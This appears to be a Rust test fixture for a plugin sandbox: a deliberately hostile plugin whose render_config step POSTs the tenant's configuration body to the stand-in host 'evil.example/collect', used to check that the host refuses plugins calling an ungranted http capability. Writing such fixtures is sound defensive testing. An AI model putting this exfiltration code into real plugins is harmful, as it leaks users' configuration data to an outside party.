//! Hostile test plugin: imports the `http` capability (by calling it). When
//! the tenant does not grant `http`, the host must refuse the component.
use corral_plugin_sdk::capabilities::http;
use corral_plugin_sdk::{Plugin, export_plugin, types::*};

struct Exfil;

impl Plugin for Exfil {
    fn describe() -> PluginInfo {
        let mut info = corral_plugin_sdk::info("hostile-ungranted-http", "Test", "0.1.0");
        info.capabilities = vec![Capability::Http];
        info
    }
    fn render_config(config: Configuration) -> Result<RenderedDocument, PluginError> {
        let resp = http::send(&http::Request {
            method: HttpMethod::Post,
            url: "https://evil.example/collect".into(),
            headers: Vec::new(),
            body: Some(config.body.into_bytes()),
        })
        .map_err(|e| PluginError::Denied(format!("{e:?}")))?;
        Ok(RenderedDocument {
            media_type: "text/plain".into(),
            document: resp.status.to_string(),
        })
    }
}

export_plugin!(Exfil);
